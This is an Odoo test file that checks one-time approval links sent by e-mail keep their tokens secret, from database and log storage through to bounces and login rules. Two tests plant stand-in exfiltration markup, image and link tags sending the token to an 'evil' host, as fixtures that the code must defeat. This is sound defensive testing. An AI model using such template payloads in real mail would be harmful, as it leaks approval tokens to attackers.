import contextlib
import logging
import re
from email.message import EmailMessage
from unittest.mock import patch
from urllib.parse import urlsplit

from odoo.tests import new_test_user, tagged
from odoo.tools import SQL, mute_logger

from odoo.addons.approval_matrix.link_token import hide_tokens

from .common_mail_link import LINK, MailLinkCase

#: What a token could look like, whatever it is made of.
CANDIDATE = re.compile(r"[\w=-]{24,}")


@tagged("post_install", "-at_install")
class TestMailLinkSecret(MailLinkCase):
    """Who reads the database finds nothing that decides."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.settings = new_test_user(
            cls.env,
            "settings@document.example",
            name="Settings",
            groups="base.group_system",
            email="settings@document.example",
            company_id=cls.company.id,
            company_ids=cls.company.ids,
        )

    def setUp(self):
        super().setUp()
        self.document = self._submitted(name="D1")
        self.task = self._tasks(self.document)
        self.mail = self._mails(self.lead)
        self.mail.auto_delete = False

    def _columns(self):
        """Return all columns with text in them, as ``(table, column)``."""
        return self.env.execute_query(
            SQL(
                """
                SELECT c.table_name, c.column_name
                  FROM information_schema.columns c
                  JOIN information_schema.tables t USING (table_schema, table_name)
                 WHERE table_schema = current_schema() AND table_type = 'BASE TABLE'
                   AND data_type IN
                       ('text', 'character varying', 'json', 'jsonb', 'bytea')
                """
            )
        )

    def _find_in_tables(self, pattern):
        """Return the texts of the whole database that match a pattern."""
        self.env.flush_all()
        found = set()
        for table, column in self._columns():
            rows = self.env.execute_query(
                SQL(
                    "SELECT %(column)s::text FROM %(table)s"
                    " WHERE %(column)s::text ~ %(pattern)s",
                    table=SQL.identifier(table),
                    column=SQL.identifier(column),
                    pattern=pattern,
                )
            )
            found.update(text for (text,) in rows)
        return found

    def _find_in_files(self, text):
        files = self.env["ir.attachment"].sudo().search([], order="id desc", limit=50)
        return files.filtered(lambda file: text.encode() in (file.raw or b""))

    def assertNothingDecides(self):
        """Try whatever the database has near an address of ours, or of its length."""
        candidates = {
            each
            for text in self._find_in_tables(f"/approval/{self.task.id}")
            for each in CANDIDATE.findall(text)
        }
        rows = self.env.execute_query(SQL("SELECT * FROM approval_link"))
        candidates |= {each for row in rows for each in row if isinstance(each, str)}
        self.assertTrue(candidates)
        for candidate in candidates:
            page = self.url_open(f"/approval/{self.task.id}/{candidate}")
            self.assertEqual(page.status_code, 404, candidate)

    def _token(self, path):
        return path.rsplit("/", 1)[1]

    def test_queued_mail_decides_nothing(self):
        self.assertNothingDecides()
        read = self.mail.with_user(self.settings)
        (link,) = LINK.findall(read.body_html)
        self.assertEqual(urlsplit(link).path, f"/approval/{self.task.id}")
        self.authenticate(self.settings.login, self.settings.login)
        page = self.url_open(urlsplit(link).path)
        self.assertNotIn("<form", page.text)
        self.assertEqual(self.document.state, "waiting")

    def test_token_is_nowhere_after_sending(self):
        path = self._link_in(self.mail)
        self.assertEqual(self.mail.state, "sent")
        token = self._token(path)
        self.assertEqual(self._find_in_tables(token), set())
        self.assertFalse(self._find_in_files(token))
        self.assertNothingDecides()
        self.assertPage(self.url_open(path), 200, "D1")

    def test_plain_text_part_has_the_link_too(self):
        (message,) = self._sent(self.mail)
        (link,) = LINK.findall(self._html_of(message))
        self.assertIn(link, message.get_body(("plain",)).get_content())

    def test_failed_mail_has_no_token_and_works_when_sent_again(self):
        def fail(*args, **kwargs):
            raise ValueError("no connection")

        server = self.env.registry["ir.mail_server"]
        with (
            mute_logger("odoo.addons.mail.models.mail_mail"),
            patch.object(server, "_build_email__", fail),
        ):
            self._sent(self.mail)
        self.assertEqual(self.mail.state, "exception")
        self.assertNothingDecides()
        self.mail.action_retry()
        self.assertPage(self._post(self._link_in(self.mail)), 200, "Approved")

    def test_each_sending_has_a_token_of_its_own(self):
        first = self._link_in(self.mail)
        self.mail.mark_outgoing()
        second = self._link_in(self.mail)
        self.assertNotEqual(first, second)
        self.assertPage(self.url_open(first), 200, "D1")
        self._post(second)
        self.assertRefused(first, 410, "This is decided", "works once")

    def test_other_recipients_get_a_link_that_needs_a_login(self):
        others = self.settings.partner_id | self.other.partner_id
        self.mail.write({"email_to": "x@document.example", "recipient_ids": others.ids})
        sent = self._sent(self.mail)
        self.assertEqual(len(sent), 3)
        for message in sent:
            (link,) = LINK.findall(self._html_of(message))
            self.assertEqual(urlsplit(link).path, f"/approval/{self.task.id}")

    def test_altered_mail_leaves_without_a_token(self):
        url = f"{self.task.get_base_url()}/approval/{self.task.id}"
        body = self.mail.body_html
        changes = {
            "hidden copy": {"headers": "{'Bcc': 'settings@document.example'}"},
            "copy": {"email_cc": "settings@document.example"},
            "answers": {"reply_to": "settings@document.example"},
            "picture": {"body_html": f"{body}<img src='https://evil/?u={url}'/>"},
        }
        for kind, values in changes.items():
            with self.subTest(kind), self.cr.savepoint() as savepoint:
                self.mail.write(values)
                sent = self._sent(self.mail)
                self.assertTrue(sent)
                for message in sent:
                    self.assertNotRegex(self._html_of(message), r"/approval/\d+/")
                savepoint.rollback()
                self.env.invalidate_all()

    def test_template_cannot_carry_the_token_away(self):
        template = self.env.ref("approval_matrix.mail_template_approval")
        template.body_html = """
            <div t-out="object.id"/>
            <t t-set="link" t-value="ctx.get('approval_links', {}).get(object.id, '')"/>
            <img t-att-src="'https://evil/?u=' + link"/>
            <a t-att-href="'https://evil/?u=' + link">x</a>
            <a t-att-href="link">Decide</a>
        """
        document = self._submitted(name="D2")
        mail = self._mails(self.lead) - self.mail
        (message,) = self._sent(mail)
        found = re.findall(r'(?:src|href)="([^"]*)"', self._html_of(message))
        tokens = [each for each in found if re.search(r"/approval/\d+/", each)]
        self.assertEqual(len(tokens), 1)
        self.assertTrue(tokens[0].startswith(self.task.get_base_url()))
        self._post(urlsplit(tokens[0]).path)
        self.assertEqual(document.state, "done")

    def test_mail_that_leaves_too_late_has_no_token(self):
        self.document.with_user(self.lead).action_forward(self.other.id, "Yours")
        (message,) = self._sent(self.mail)
        self.assertNotRegex(self._html_of(message), r"/approval/\d+/")

    def _bounce(self, *parts):
        """An incoming e-mail, with what a mail server or an answer quotes."""
        message = EmailMessage()
        message["From"] = "mailer-daemon@document.example"
        message["To"] = "bounce@document.example"
        message["Message-Id"] = "<bounce@document.example>"
        message["Subject"] = "Undelivered"
        message.set_content("It did not arrive.")
        for part in parts:
            if isinstance(part, EmailMessage):
                message.add_attachment(part)
            else:
                message.add_attachment(
                    part, maintype="application", subtype="octet-stream"
                )
        with mute_logger("odoo.addons.mail.models.mail_thread"):
            with contextlib.suppress(ValueError):  # no alias takes it
                self.env["mail.thread"].message_process(None, message.as_bytes())

    def test_bounce_spoils_the_link_it_quotes(self):
        self.mail.auto_delete = False
        (message,) = self._sent(self.mail)
        path = urlsplit(LINK.findall(self._html_of(message))[0]).path
        self._bounce(message)
        self.assertRefused(path, 410, "Log in to decide")

    def test_quoted_links_are_found_in_any_spelling(self):
        wrapped = "https%3A%2F%2Fodoo%2Fapproval%2F{0}%2F{1}"
        for spelt in (
            "> see https://odoo/approval/{0}/{1} please",
            f"https://safe.example/?url={wrapped}&data=1",
        ):
            mail = self.mail.copy({"state": "outgoing"})
            self.env.cr.execute("UPDATE approval_link SET mail_id = %s", [mail.id])
            self.env.invalidate_all()
            path = self._link_in(mail)
            text = spelt.format(self.task.id, self._token(path))
            with self.subTest(spelt):
                self._bounce(text.encode())
                self.assertRefused(path, 410, "Log in to decide")

    def test_unreadable_incoming_mail_passes(self):
        with mute_logger("odoo.addons.approval_matrix.models.approval_link"):
            self.env["approval.link"].sudo()._revoke_quoted(None)
        path = self._link_in(self.mail)
        self.assertTrue(self._token(path), "No link is spoilt by it.")

    def test_log_of_requests_hides_the_token(self):
        path = self._link_in(self.mail)
        line = (f"GET {path} HTTP/1.1", "200", "-")
        record = logging.LogRecord("x", logging.INFO, "x", 1, '"%s" %s %s', line, None)
        self.assertTrue(logging.getLogger("werkzeug").filter(record))
        said = record.getMessage()
        self.assertIn(f"/approval/{self.task.id}/", said)
        self.assertNotIn(self._token(path), said)
        self.assertEqual(hide_tokens("/odoo/settings"), "/odoo/settings")

    def test_nobody_reads_or_writes_links(self):
        for user in (self.settings, self.lead, self.clerk):
            links = self.env(user=user)["approval.link"]
            for operation in ("read", "write", "create", "unlink"):
                self.assertFalse(links.has_access(operation), user.name)

    def test_links_are_forgotten_long_after(self):
        links = self.env["approval.link"].sudo()
        self._link_in(self.mail)
        links._gc_links()
        self.assertTrue(links.search([("task_id", "=", self.task.id)]))
        self.env.cr.execute("UPDATE approval_link SET expires_at = '2020-01-01'")
        self.env.invalidate_all()
        links._gc_links()
        self.assertFalse(links.search([]))


@tagged("post_install", "-at_install")
class TestMailLinkLogin(MailLinkCase):
    """What a company wants of those who decide by link."""

    def _queued(self, amount, **values):
        self.company.write(values)
        document = self._submitted(name="D1", amount=amount)
        return document, self._mails(self.lead)[-1:]

    def _first_link(self, mail):
        (message,) = self._sent(mail)
        return urlsplit(LINK.findall(self._html_of(message))[0]).path

    def test_link_decides_without_a_login_unless_told_otherwise(self):
        self.assertEqual(self.company.approval_link_login, "never")

    def test_always(self):
        document, mail = self._queued(1, approval_link_login="always")
        task = self._tasks(document)
        self.assertEqual(self._first_link(mail), f"/approval/{task.id}")

    def test_from_an_amount(self):
        limit = {"approval_link_login": "amount", "approval_link_login_amount": 100}
        for amount, needed in ((99, False), (100, True), (101, True)):
            with self.subTest(amount):
                document, mail = self._queued(amount, **limit)
                own = f"/approval/{self._tasks(document).id}"
                self.assertEqual(self._first_link(mail) == own, needed)

    def test_stricter_amount_counts(self):
        limit = {"approval_link_login": "amount", "approval_link_login_amount": 100}
        with patch.object(
            self.env.registry["test.approval.document"],
            "_approval_threshold_amount",
            lambda document: 100.0,
        ):
            document, mail = self._queued(10, **limit)
        own = f"/approval/{self._tasks(document).id}"
        self.assertEqual(self._first_link(mail), own)

    def test_setting_counts_when_the_link_is_opened(self):
        document, mail = self._queued(10)
        path = self._first_link(mail)
        form = self.url_open(path).text
        token = re.search(r'name="csrf_token" value="(\w+)"', form)[1]
        self.company.approval_link_login = "always"
        for page in (self.url_open(path), self._post(path, token=token)):
            self.assertIn("/web/login", page.url)
            self.assertNotIn(path, page.url)
        self.assertEqual(document.state, "waiting")

    def test_login_leads_to_the_document(self):
        document, mail = self._queued(10, approval_link_login="always")
        path = self._first_link(mail)
        answer = self.url_open(path, allow_redirects=False)
        self.assertIn("/web/login?redirect=", answer.headers["Location"])
        self.authenticate(self.lead.login, self.lead.login)
        answer = self.url_open(path, allow_redirects=False)
        place = f"/odoo/test.approval.document/{document.id}"
        self.assertTrue(answer.headers["Location"].endswith(place))

    def test_whoever_is_not_asked_is_led_nowhere(self):
        _document, mail = self._queued(10, approval_link_login="always")
        path = self._first_link(mail)
        self.authenticate(self.other.login, self.other.login)
        for each in (path, "/approval/2147483648", "/approval/0"):
            answer = self.url_open(each, allow_redirects=False)
            self.assertTrue(answer.headers["Location"].endswith("/odoo/my-approvals"))

    def test_link_to_answer_leads_to_the_dialog_who_may_read_the_document(self):
        document = self._submitted()
        process = document.sudo().approval_process_id
        document.with_user(self.lead).action_ask_information("Why?")
        path = f"/approval/answer/{process.id}"
        login = self.url_open(path, allow_redirects=False)
        self.assertIn("/web/login?redirect=", login.headers["Location"])
        places = {self.clerk: f"/{document.id}?approval_answer=1"}
        places[self.other] = "/odoo/my-approvals"  # the request is not theirs to read
        for user, place in places.items():
            self.authenticate(user.login, user.login)
            answer = self.url_open(path, allow_redirects=False)
            self.assertTrue(answer.headers["Location"].endswith(place))
        for unknown in ("2147483648", "0"):
            answer = self.url_open(f"/approval/answer/{unknown}", allow_redirects=False)
            self.assertTrue(answer.headers["Location"].endswith("/odoo/my-approvals"))

    def test_used_link_says_so_whatever_the_company_wants(self):
        _document, mail = self._queued(10)
        path = self._first_link(mail)
        self._post(path)
        self.company.approval_link_login = "always"
        self.assertRefused(path, 410, "This link works once, and was used")

    def test_link_is_not_good_again_when_the_task_is(self):
        """Whatever sets a step back: the link was used."""
        self.tampered = True
        document, mail = self._queued(10)
        path = self._first_link(mail)
        self._post(path)
        self.env.cr.execute(
            "UPDATE approval_task SET state = 'active', decided_by_id = NULL"
            " WHERE process_id = %(id)s",
            {"id": document.sudo().approval_process_id.id},
        )
        self.env.cr.execute(
            "UPDATE approval_process SET state = 'open' WHERE id = %s",
            [document.sudo().approval_process_id.id],
        )
        self.env.invalidate_all()
        self.assertRefused(path, 410, "This link was used")

    def test_history_says_that_it_came_by_link(self):
        document, mail = self._queued(10)
        self._post(self._first_link(mail))
        rows = document.with_user(self.lead).get_approval_history()[0]["rows"]
        self.assertIn("Lead, by link", [row["user"] for row in rows])
